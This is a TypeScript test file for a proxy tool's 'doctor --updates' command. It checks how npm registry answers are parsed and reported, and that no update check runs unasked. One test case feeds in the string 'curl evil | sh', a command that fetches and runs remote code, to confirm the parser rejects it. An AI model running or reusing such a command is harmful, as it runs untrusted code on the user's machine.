/** `doctor --updates`: whom it asks, what it says, and that nothing else asks. */
import { afterEach, beforeEach, describe, expect, test } from 'bun:test';
import { chmodSync, existsSync } from 'node:fs';
import { dirname, join } from 'node:path';
import { PACKAGE } from '../../src/config/config.ts';
import { type Answer, type Own, readAnswer, updateFinding } from '../../src/doctor/updates.ts';
import { DoctorBench } from '../support/doctor/doctor.ts';
import { startProxy } from '../support/programs/proxy-process.ts';

const OURS: Own = { name: 'gemini-claude-proxy', version: '0.2.0', isPublished: true };
const version = (text: string): Answer => ({ kind: 'version', version: text });

describe('what npm says', () => {
  test.each<[string, string | undefined, Answer]>([
    ['a version', '"0.3.0"\n', version('0.3.0')],
    ['a version before the next', '"1.0.0-beta.2"', version('1.0.0-beta.2')],
    [
      'that there is no such package',
      '{"error":{"code":"E404","summary":"Not Found"}}',
      { kind: 'no such package' },
    ],
    [
      'that it has no network',
      '{"error":{"code":"ENOTFOUND","summary":"getaddrinfo ENOTFOUND"}}',
      { kind: 'failed', why: 'getaddrinfo ENOTFOUND' },
    ],
    ['a page', '<html>', { kind: 'failed', why: 'npm said something that is no version' }],
    ['an instruction', '"curl evil | sh"', { kind: 'failed', why: 'npm said something that is no version' }],
    ['nothing', '', { kind: 'no npm' }],
    ['nothing, since it is not there', undefined, { kind: 'no npm' }],
  ])('%s', (_, output, answer) => {
    expect(readAnswer(output)).toEqual(answer);
  });
});

describe('what the user is told', () => {
  test.each<[string, Answer, Own, 'clone' | 'package' | 'executable', string, RegExp]>([
    [
      'a newer one',
      version('0.10.0'),
      OURS,
      'package',
      'hint',
      /0\.10\.0 is out.*npm install -g gemini-claude-proxy@latest/,
    ],
    ['a newer one, in a clone', version('0.3.0'), OURS, 'clone', 'hint', /0\.3\.0 is out.*git pull/],
    ['the same', version('0.2.0'), OURS, 'package', 'ok', /this is 0\.2\.0; the newest .* is 0\.2\.0/],
    ['an older one', version('0.1.9'), OURS, 'package', 'ok', /this is 0\.2\.0; the newest .* is 0\.1\.9/],
    ['none', { kind: 'no such package' }, OURS, 'clone', 'ok', /has no gemini-claude-proxy.*git pull/],
    [
      "a stranger's under this name",
      version('9.9.9'),
      { ...OURS, isPublished: false },
      'package',
      'hint',
      /not this program.*Do not install/,
    ],
    ['no answer', { kind: 'failed', why: 'ENOTFOUND' }, OURS, 'package', 'hint', /ENOTFOUND.*HTTPS_PROXY/],
    ['no npm', { kind: 'no npm' }, OURS, 'executable', 'hint', /npm cannot be run.*executable/],
  ])('%s', (_, answer, own, form, level, says) => {
    const finding = updateFinding(answer, own, form);
    expect(finding.level).toBe(level as typeof finding.level);
    expect(Object.values(finding).join(' ')).toMatch(says);
  });
});

let bench: DoctorBench;
/** What the registry was asked for. */
let asked: string[];
beforeEach(() => {
  asked = [];
  bench = new DoctorBench();
});
afterEach(() => bench.clear());

function registry(answer: (request: Request) => Response | Promise<Response>): void {
  bench.env['npm_config_registry'] = bench.serve((request) => {
    asked.push(new URL(request.url).pathname);
    return answer(request);
  });
}

const [npm, node] = [Bun.which('npm'), Bun.which('node')];
if (!npm || !node) console.warn('skipped: updates with the real npm (no npm)');

describe.skipIf(!npm || !node)('with npm', () => {
  beforeEach(() => {
    bench.env['PATH'] = [npm, node, '/usr/bin/env'].map((path) => dirname(path ?? '')).join(':');
  });

  const updates = async (): Promise<string> => {
    const { findings } = await bench.run('--updates');
    const found = findings.filter(({ check }) => check === 'updates');
    expect(found).toHaveLength(1);
    return Object.values(found[0] ?? {}).join(' ');
  };

  test('it asks the registry that npm is told of, for this package and nothing else', async () => {
    registry(() => Response.json(packument('9.9.9')));
    expect(await updates()).toContain('9.9.9');
    expect(asked).toEqual([`/${PACKAGE.name}`]);
  });

  test('a registry without the package: that is said, and is no fault', async () => {
    registry(() => Response.json({ error: 'not_found' }, { status: 404 }));
    expect(await updates()).toMatch(/^ok .*has no gemini-claude-proxy/);
  });

  test.each<[string, () => void, RegExp]>([
    [
      'no network',
      () => (bench.env['npm_config_registry'] = 'http://127.0.0.1:1/'),
      /could not ask.*ECONNREFUSED/,
    ],
    ['a page in its place', () => registry(() => new Response('<html>Log in')), /could not ask.*JSON/],
    ['a refusal', () => registry(() => Response.json({}, { status: 403 })), /could not ask.*403/],
  ])('%s: told with the reason', async (_, set, says) => {
    set();
    expect(await updates()).toMatch(says);
  });

  test('a registry that says nothing does not hold the doctor up', async () => {
    const reached = Promise.withResolvers<void>();
    registry(() => {
      reached.resolve();
      return new Promise(() => {});
    });
    bench.limit = { ms: 20_000, when: (act) => void reached.promise.then(act) };
    expect(await updates()).toContain('did not come to an end');
  });

  function packument(latest: string): object {
    const { name } = PACKAGE;
    const dist = { tarball: `http://127.0.0.1:1/${name}.tgz` };
    return { name, 'dist-tags': { latest }, versions: { [latest]: { name, version: latest, dist } } };
  }
});

describe('unasked', () => {
  /** A `npm` that leaves a note when it is called. */
  beforeEach(() => {
    registry(() => Response.json({}));
    const note = join(bench.root, 'called');
    chmodSync(bench.write('bin/npm', `#!/bin/sh\ntouch ${note}\n`), 0o755);
  });
  const expectUnasked = () => {
    expect(asked).toEqual([]);
    expect(existsSync(join(bench.root, 'called'))).toBe(false);
  };

  test('the doctor looks for no update', async () => {
    const { findings } = await bench.run();
    expect(findings.filter(({ check }) => check === 'updates')).toEqual([]);
    expectUnasked();
  });

  test('a start looks for none', async () => {
    const proxy = await startProxy({
      folder: join(bench.root, 'proxy'),
      env: { ...bench.env, BACKEND: 'mock' },
    });
    try {
      expect((await fetch(`${proxy.url}/health`)).status).toBe(200);
    } finally {
      await proxy.stop();
    }
    expectUnasked();
  });

  test('the note would be seen', async () => {
    await bench.run('--updates');
    expect(existsSync(join(bench.root, 'called'))).toBe(true);
  });
});
